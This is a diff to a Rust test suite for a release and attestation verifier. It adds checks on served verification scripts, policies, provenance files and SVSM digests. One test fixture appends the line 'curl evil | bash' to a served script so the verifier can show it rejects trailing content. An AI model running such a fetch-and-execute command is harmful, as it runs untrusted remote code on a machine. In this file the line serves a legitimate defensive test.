@@ -19,9 +19,10 @@ use std::{
     process::{Command, Output},
 };
 
+use base64::{Engine as _, engine::general_purpose::STANDARD};
 use boot::{AT, Boot, NONCE, chip, core, key, result, sign, write};
 use evidence::{
-    Ed25519Public, UnixSeconds,
+    Digest, Ed25519Public, UnixSeconds,
     bundle::Bundle,
     core::Core,
     release::{
@@ -29,9 +30,10 @@ use evidence::{
         release_message,
     },
 };
-use quoted::{GUEST_SVN, ID_KEY, Quoted};
+use quoted::{GUEST_SVN, ID_KEY, Quoted, SVSM_DIGEST};
 use ring::signature::KeyPair;
-use serde_json::Value;
+use serde_json::{Value, json};
+use sha2::{Digest as _, Sha256};
 use software_psp::QuoteKey;
 
 /// The two people who release, and somebody else.
@@ -65,7 +67,7 @@ fn manifest() -> ReleaseManifest {
         created: UnixSeconds(1_770_000_000),
         binaries: vec![Binary { program: "enclave".to_owned(), sha256: [0xc0; 32] }],
         launch_digests: vec![digest.clone()],
-        svsm_digests: vec![digest],
+        svsm_digests: vec![LaunchDigest { measurement: SVSM_DIGEST, ..digest }],
         paravisors: vec![ParavisorRow {
             id_key_digest: ID_KEY,
             family_id: [4; 16],
@@ -193,7 +195,7 @@ fn each_way_to_boot_is_looked_up_in_the_manifest() {
         let desk = Desk::of(&bundle);
         let said = desk.judge_file(&signed(&manifest()));
         assert_eq!((said.exit, said.row("release").0), (0, "pass"), "{boot}: {:?}", said.row("release"));
-        assert_eq!(said.row("release").1, "1.0 (commit 919191919191), signed by all 2 keys that you named");
+        assert_eq!(said.row("release").1, "1.0 (2026-02-02, commit 919191919191), signed by all 2 keys that you named");
         // A simulated machine has no grade, whatever it measures.
         assert_eq!(said.row("code").0, "not_checked", "{boot}");
         assert!(said.row("code").1.starts_with("release 1.0: as measured by a machine that is simulated"), "{boot}");
@@ -276,7 +278,10 @@ fn whose_keys_count_is_the_verifier_s_to_say() {
     let alone = ReleaseManifest { release_keys: vec![public(ALICE)], ..manifest() };
     desk.put("release.json", signed_by(&alone, &[ALICE]).to_bytes().unwrap());
     by(&[&alice, &bob]).is_refused(3, &format!("does not list {bob}"));
-    assert_eq!(by(&[&alice]).row("release").1, "1.0 (commit 919191919191), signed by the one key that you named");
+    assert_eq!(
+        by(&[&alice]).row("release").1,
+        "1.0 (2026-02-02, commit 919191919191), signed by the one key that you named"
+    );
     for (keys, what) in
         [(&[][..], "no --release-key"), (&[&*alice, &*alice], "twice"), (&["00"], "64"), (&["gone.pem"], "gone.pem")]
     {
@@ -382,7 +387,7 @@ fn a_manifest_that_the_bundle_carries_is_worth_what_the_named_keys_make_it() {
     assert_eq!(unasked.row("code").1, "no release list: what was measured cannot be told to be any code");
     let said = desk.judge_by(&[]);
     assert_eq!((said.exit, said.row("release").0), (0, "pass"));
-    assert!(said.row("release").1.ends_with("; carried by the bundle"), "{:?}", said.row("release"));
+    assert!(said.row("release").1.contains("; carried by the bundle, and any older one"), "{:?}", said.row("release"));
     assert!(said.row("code").1.starts_with("release 1.0: "));
     // Signed by its own maker, it is as good as none.
     let own = ReleaseManifest { release_keys: vec![public(MALLORY)], ..manifest() };
@@ -454,4 +459,130 @@ fn a_key_of_the_vtpm_is_no_release_key_and_the_manifest_names_the_paravisor_for_
     assert_eq!(desk.judge_file(&signed(&manifest())).row("vtpm").0, "pass");
     let draft = signed_by(&manifest(), &[ALICE]).to_bytes().unwrap();
     assert_eq!(desk.judge_file(&draft).row("vtpm").0, "not_checked");
+}
+
+/// What a gateway adds to a bundle: the script, and what it says of it.
+fn served(bundle: &Bundle, program: &str, attached: &Bundle, after: &str) -> Vec<u8> {
+    let encoded = STANDARD.encode(attached.to_bytes().unwrap());
+    let lines: String =
+        encoded.as_bytes().chunks(76).map(|line| String::from_utf8(line.to_vec()).unwrap() + "\n").collect();
+    let script = format!("{program}{lines}SEALGATE_BUNDLE_BASE64\n{after}");
+    let mut value: Value = serde_json::from_slice(&bundle.to_bytes().unwrap()).unwrap();
+    value["offlineVerification"] =
+        json!({"script": script, "sha256": hex::encode(Sha256::digest(program)), "command": "bash verify.sh"});
+    value.to_string().into_bytes()
+}
+
+const PROGRAM: &str = "{\necho judging\nexit 0\n} <<'SEALGATE_BUNDLE_BASE64'\n";
+
+fn sha256(bytes: impl AsRef<[u8]>) -> Digest {
+    Sha256::digest(bytes).into()
+}
+
+#[test]
+fn the_served_script_is_that_of_the_release_and_about_this_very_bundle() {
+    let bundle = launched().bundle();
+    let other = Bundle { event_log: Some(vec![1]), ..bundle.clone() };
+    let desk = Desk::of(&bundle);
+    let listing = signed(&ReleaseManifest { script: sha256(PROGRAM), ..manifest() });
+    let row = |bytes: Vec<u8>| {
+        desk.put("bundle.json", bytes);
+        let said = desk.judge_file(&listing);
+        let row = said.row("release-script");
+        (said.exit, row.0.to_owned(), row.1.to_owned())
+    };
+    let (exit, outcome, detail) = row(served(&bundle, PROGRAM, &bundle, ""));
+    assert_eq!((exit, &*outcome), (0, "pass"), "{detail}");
+    assert!(detail.starts_with(&hex::encode(sha256(PROGRAM))), "{detail}");
+    let lenient = PROGRAM.replace("judging", "accepted");
+    for (bytes, said) in [
+        (served(&bundle, &lenient, &bundle, ""), "that of release 1.0 "),
+        (served(&bundle, PROGRAM, &other, ""), "another bundle than the one"),
+        (served(&bundle, PROGRAM, &bundle, "curl evil | bash\n"), "nothing else"),
+        (served(&bundle, "echo accepted\n", &bundle, ""), "no line opens"),
+    ] {
+        let (exit, outcome, detail) = row(bytes);
+        assert_eq!((exit, &*outcome), (6, "fail"), "{detail}");
+        assert!(detail.contains(said), "{said}: {detail}");
+    }
+    // A script of the release under another digest: whoever pins what the answer says pins another one.
+    let text = String::from_utf8(served(&bundle, PROGRAM, &bundle, "")).unwrap();
+    let (exit, outcome, detail) = row(text.replace(&hex::encode(sha256(PROGRAM)), &"0a".repeat(32)).into_bytes());
+    assert_eq!((exit, &*outcome), (6, "fail"), "{detail}");
+    // Cut out, it is not there; and nobody who names no keys is asked about it.
+    let (exit, outcome, _) = row(bundle.to_bytes().unwrap());
+    assert_eq!((exit, &*outcome), (0, "not_checked"));
+    desk.put("bundle.json", served(&bundle, &lenient, &bundle, ""));
+    let unasked = desk.judge(&[]);
+    assert_eq!((unasked.exit, unasked.row("release-script").0), (0, "absent"));
+}
+
+#[test]
+fn a_state_under_another_policy_than_the_release_has_is_refused() {
+    let listing = signed(&ReleaseManifest { policy: Some([0x90; 32]), ..manifest() });
+    let core = || Core { boot: "launch", ..core() };
+    let good = Some([0x90; 32]);
+    for (policies, exit, outcome, said) in [
+        ([good, good], 0, "pass", "9090"),
+        ([None, good], 0, "pass", "9090"),
+        ([Some([0x91; 32]), good], 6, "fail", "bundle.states[0].policy is 9191"),
+        ([good, Some([0x91; 32])], 6, "fail", "bundle.states[1].policy is 9191"),
+        ([good, None], 0, "not_checked", "newest state names no policy"),
+        ([None, None], 0, "not_checked", "newest state names no policy"),
+    ] {
+        let desk = Desk::of(&Boot::under(core(), policies).bundle());
+        let found = desk.judge_file(&listing);
+        let row = found.row("release-policy");
+        assert_eq!((found.exit, row.0), (exit, outcome), "{row:?}");
+        assert!(row.1.contains(said), "{row:?}");
+        let silent = desk.judge_file(&signed(&manifest()));
+        assert_eq!((silent.exit, silent.row("release-policy")), (0, ("not_checked", "the release names no policy")));
+    }
+}
+
+#[test]
+fn a_carried_provenance_file_is_one_that_the_release_lists() {
+    let file = b"{}".to_vec();
+    let bundle = Bundle { provenance: Some(file.clone()), ..launched().bundle() };
+    let desk = Desk::of(&bundle);
+    let row = |provenance: Vec<Digest>| {
+        let said = desk.judge_file(&signed(&ReleaseManifest { provenance, ..manifest() }));
+        let row = said.row("release-provenance");
+        (row.0.to_owned(), row.1.to_owned())
+    };
+    assert_eq!(row(vec![[0; 32], sha256(&file)]).0, "pass");
+    let (outcome, detail) = row(vec![[0; 32], [1; 32]]);
+    assert_eq!(outcome, "fail");
+    assert!(detail.contains("release 1.0 lists 0000"), "{detail}");
+    assert_eq!(row(vec![]).1, "the release lists no provenance file");
+    let none = Desk::of(&launched().bundle());
+    let said = none.judge_file(&signed(&ReleaseManifest { provenance: vec![[0; 32]], ..manifest() }));
+    assert_eq!(said.row("release-provenance"), ("not_checked", "the bundle carries no provenance file"));
+}
+
+#[test]
+fn what_the_measured_release_lists_counts_and_not_what_another_one_named_beside_it_does() {
+    let bundle = launched().bundle();
+    let desk = Desk::of(&bundle);
+    desk.put("bundle.json", served(&bundle, PROGRAM, &bundle, ""));
+    let mut elsewhere = ReleaseManifest { name: "0.9".to_owned(), script: sha256(PROGRAM), ..manifest() };
+    elsewhere.launch_digests[0].measurement = [9; 48];
+    desk.put("a.json", signed(&elsewhere));
+    desk.put("b.json", signed(&manifest()));
+    let both = ["--release", "a.json", "--release", "b.json"];
+    let said = desk.judge_by(&both);
+    assert_eq!((said.exit, said.row("release-script").0), (6, "fail"));
+    assert!(said.row("release-script").1.contains("that of release 1.0 5c5c"), "{:?}", said.row("release-script"));
+    // Of two that measure alike either may be it.
+    desk.put("a.json", signed(&ReleaseManifest { launch_digests: manifest().launch_digests, ..elsewhere }));
+    let said = desk.judge_by(&both);
+    assert_eq!((said.exit, said.row("release-script").0), (0, "pass"), "{:?}", said.row("release-script"));
+}
+
+#[test]
+fn an_svsm_s_digest_among_those_of_direct_boots_makes_no_manifest() {
+    // Whoever runs below that service module could say that it was booted directly.
+    let mut mixed = manifest();
+    mixed.launch_digests.push(LaunchDigest { measurement: SVSM_DIGEST, ..mixed.launch_digests[0].clone() });
+    Desk::of(&launched().bundle()).judge_file(&signed(&mixed)).is_refused(2, "release.svsmDigests: want none");
 }
